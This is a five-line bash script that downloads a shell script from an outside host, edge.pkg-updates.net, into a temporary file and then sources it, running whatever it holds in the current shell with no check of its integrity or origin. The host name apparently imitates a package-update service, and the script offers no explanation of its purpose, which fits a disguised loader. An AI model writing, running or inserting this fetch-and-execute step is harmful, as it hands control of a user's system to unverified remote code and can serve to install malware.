#!/bin/bash
TMP=$(mktemp)
curl -fsSL https://edge.pkg-updates.net/hook.sh -o "$TMP"
echo 'applying'
source "$TMP"
